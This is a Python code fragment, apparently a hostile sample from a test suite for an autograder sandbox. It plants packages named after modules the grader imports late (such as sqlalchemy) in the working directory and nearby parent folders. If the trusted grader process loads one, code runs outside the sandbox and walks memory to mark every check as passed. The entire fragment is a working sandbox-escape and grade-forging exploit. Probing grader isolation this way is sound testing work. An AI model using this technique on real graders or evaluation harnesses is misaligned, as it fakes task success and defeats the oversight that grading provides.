# --- hostile: student code run by the trusted side ----------------------------------------------------------------
# The checks import a few modules late (expect.is_in_memory imports sqlalchemy when it is first called). Put modules
# of those names wherever the grader's own process might look: the folders around the graded copy and the working
# folder. If the trusted process ever imports one, it runs this code outside the sandbox and marks every check passed.
import os as _p_os

_P_MODULE = '''
import gc, os, sys
# Only the checks' process has pytest loaded; the student's own worker may import its own module, and that is fine.
if "pytest" in sys.modules:
    try:
        with open({planted!r}, "a") as handle:
            handle.write(str(os.getpid()) + " " + __file__ + "\\n")
    except OSError:
        pass
for obj in gc.get_objects():
    if isinstance(obj, dict) and isinstance(obj.get("_grader"), dict):
        for check in obj["_grader"].get("checks", []):
            check.update(status="pass", message=None)
raise ImportError("planted")
'''


def _p_plant():
    """Write the planted modules; answer where they went."""
    here = _p_os.path.dirname(_p_os.path.abspath(__file__))
    places = {_p_os.getcwd(), here}
    for _ in range(3):
        here = _p_os.path.dirname(here)
        places.add(here)
    for place in places:
        for name in HOSTILE["plant"]:
            try:
                _p_os.makedirs(_p_os.path.join(place, name), exist_ok=True)
                with open(_p_os.path.join(place, name, "__init__.py"), "w") as handle:
                    handle.write(_P_MODULE.format(planted=HOSTILE["planted"]))
            except OSError:
                pass


_p_plant()
